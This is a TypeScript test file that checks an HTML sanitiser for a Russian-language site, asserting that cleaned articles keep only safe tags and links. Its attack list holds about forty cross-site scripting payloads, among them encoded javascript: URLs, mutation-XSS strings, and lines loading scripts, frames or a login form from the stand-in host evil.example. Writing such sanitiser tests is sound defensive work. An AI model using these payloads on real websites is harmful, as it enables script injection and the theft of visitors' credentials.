import { expect, test } from 'vitest'
import { cleanHtml } from './cleanHtml.ts'

const attacks = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<script>alert(1)',
	'<script/x>alert(1)</script >',
	'<img src=x onerror=alert(1)>',
	'<img src="x" onerror="alert(1)"/',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<p onclick="alert(1)">x</p>',
	'<p ONMOUSEOVER=alert(1)>x</p>',
	'<p/onclick=alert(1)>x</p>',
	'<p title="a"onclick="alert(1)">x</p>',
	`<p title='"><img src=x onerror=alert(1)>'>x</p>`,
	'<a href="javascript:alert(1)">x</a>',
	'<a href=" javascript:alert(1)">x</a>',
	'<a href="java&#115;cript:alert(1)">x</a>',
	'<a href="java&#x09;script:alert(1)">x</a>',
	'<a href="&#106;avascript&colon;alert(1)">x</a>',
	'<a href="JaVaScRiPt:alert(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="//evil.example">x</a>',
	'<a href="/\\evil.example">x</a>',
	'<iframe src="https://evil.example"></iframe>',
	'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
	'<object data=x></object><embed src=x>',
	'<style>body{display:none}</style>',
	'<p style="position:fixed;inset:0">x</p>',
	'<div class="modal" style="inset:0">x</div>',
	'<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example>',
	'<meta http-equiv=refresh content="0;url=//evil.example">',
	'<form action=//evil.example><input name=p><button>Войти</button></form>',
	'<template><script>alert(1)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	'<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
	'<!--><script>alert(1)</script>-->',
	'<![CDATA[<script>alert(1)</script>]]>',
	'<?php <script>alert(1)</script> ?>',
	'<details open ontoggle=alert(1)>x</details>',
	'<\0script>alert(1)</script>',
]

/** As the browser will read it. */
function read(html: string): Element[] {
	const page = new DOMParser().parseFromString(`<body><article>${html}</article></body>`, 'text/html')
	return [...page.querySelectorAll('article, article *')]
}

const harmless =
	/^(article|a|b|blockquote|br|code|div|em|h[234]|hr|i|li|ol|p|small|strong|su[bp]|t(able|body|d|foot|h|head|r)|u|ul)$/

test.each(attacks)('nothing that runs is left of %s', (attack) => {
	const clean = cleanHtml(`<p>до</p>${attack}`)
	const elements = read(clean)
	for (const element of elements) {
		expect(element.localName).toMatch(harmless)
		for (const { name, value } of element.attributes) {
			expect(name).toMatch(/^(id|title|href|class|tabindex|colspan|rowspan|scope)$/)
			if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:|\/(?![/\\])|#)/)
			if (name === 'class') expect(value).toBe('scroll-x')
		}
	}
	expect(elements[1]?.textContent).toBe('до')
})

test('what staff write stays', () => {
	const article =
		'<p>Ларёк &amp; <b>рядом</b>, 5 &lt; 6.</p><h2 id="section-1">Раздел</h2><ul><li>раз</li></ul>' +
		'<div class="scroll-x" tabindex="0"><table><tr><td colspan="2">1</td></tr></table></div>' +
		'<p><a href="https://larek.example/ru?a=1&amp;b=2">сюда</a>, <a href="/ru/info">туда</a>, <a href="mailto:a@b.example">письмо</a><br></p>'
	expect(cleanHtml(article)).toBe(article)
	expect(cleanHtml(cleanHtml(article))).toBe(article)
})
